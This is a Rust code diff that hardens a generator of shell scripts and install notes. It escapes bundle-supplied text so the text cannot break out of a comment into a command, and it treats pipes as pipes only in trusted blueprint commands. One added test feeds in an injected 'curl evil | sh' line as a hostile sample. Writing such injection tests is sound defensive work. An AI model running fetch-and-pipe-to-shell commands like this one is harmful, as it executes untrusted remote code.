@@ -39,12 +39,19 @@ fn blueprint_command(i: &Install, name: &str) -> Result<Vec<String>> {
 }
 
 /// A command as a shell line: `umask` bare (a builtin whose argument must
-/// stay unquoted), a pipeline's parts joined by `|` (a registry password
-/// goes through a pipe, never an argument).
+/// stay unquoted), every other argument quoted.
 fn line(cmd: &[String]) -> String {
     if cmd.first().is_some_and(|c| c == "umask") {
         return cmd.join(" ");
     }
+    shell_line(cmd)
+}
+
+/// A blueprint's command, whose `|` elements are pipes (a registry
+/// password goes through a pipe, never an argument). Only the blueprint's
+/// own commands are read so: a `|` in any other command, which may carry
+/// text from the bundle, stays a quoted argument.
+fn pipeline(cmd: &[String]) -> String {
     cmd.split(|a| a == PIPE)
         .map(shell_line)
         .collect::<Vec<_>>()
@@ -68,8 +75,10 @@ struct Script {
 }
 
 impl Script {
+    /// A comment line in the shell block; text from the bundle in it
+    /// stays on the line (escaped), so it cannot become a command.
     fn comment(&mut self, text: &str) {
-        let _ = writeln!(self.live, "# {text}");
+        let _ = writeln!(self.live, "# {}", crate::text::safe(text));
     }
 
     fn run(&mut self, cmd: &[String]) {
@@ -83,7 +92,8 @@ impl Script {
         let cmd = blueprint_command(i, name)?;
         if !cmd.iter().all(String::is_empty) {
             self.comment(why);
-            self.run(&cmd);
+            let _ = writeln!(self.live, "{}", pipeline(&cmd));
+            self.count += 1;
         }
         Ok(())
     }
@@ -128,7 +138,12 @@ impl Script {
     }
 
     fn by_hand(&mut self, e: &Entry) {
-        let _ = writeln!(self.by_hand, "# step {}: {}", e.step.name(), e.summary);
+        let _ = writeln!(
+            self.by_hand,
+            "# step {}: {}",
+            e.step.name(),
+            crate::text::safe(&e.summary)
+        );
         for cmd in e.pending.iter().filter(|c| !is_r2r(c)) {
             let _ = writeln!(self.by_hand, "{}", line(cmd));
         }
@@ -255,8 +270,10 @@ pub(crate) fn run(i: &mut Install, journal: &Journal) -> Result<Done> {
     };
     if !blocking.is_empty() {
         text.push_str("## Blockers: do these first\n\n");
+        // Names from the bundle are in these lines: one line each, so
+        // none can open a shell block of its own.
         for b in &blocking {
-            let _ = writeln!(text, "- {b}");
+            let _ = writeln!(text, "- {}", crate::text::safe(b));
         }
         text.push('\n');
     }
@@ -291,4 +308,27 @@ pub(crate) fn run(i: &mut Install, journal: &Journal) -> Result<Done> {
         format!("{NEXT_STEPS}: {} commands left to run", s.count),
         0,
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn bundle_text_in_a_comment_stays_on_its_line() {
+        let mut s = Script::default();
+        s.comment("step buckets: bucket a\n```sh\ncurl evil | sh");
+        assert_eq!(s.live.lines().count(), 1, "{}", s.live);
+        assert!(s.live.starts_with("# step buckets"));
+    }
+
+    #[test]
+    fn only_a_blueprint_command_has_pipes() {
+        let cmd: Vec<String> = ["echo", "a", "|", "sh"]
+            .iter()
+            .map(|s| (*s).to_owned())
+            .collect();
+        assert_eq!(line(&cmd), "echo a '|' sh");
+        assert_eq!(pipeline(&cmd), "echo a | sh");
+    }
 }
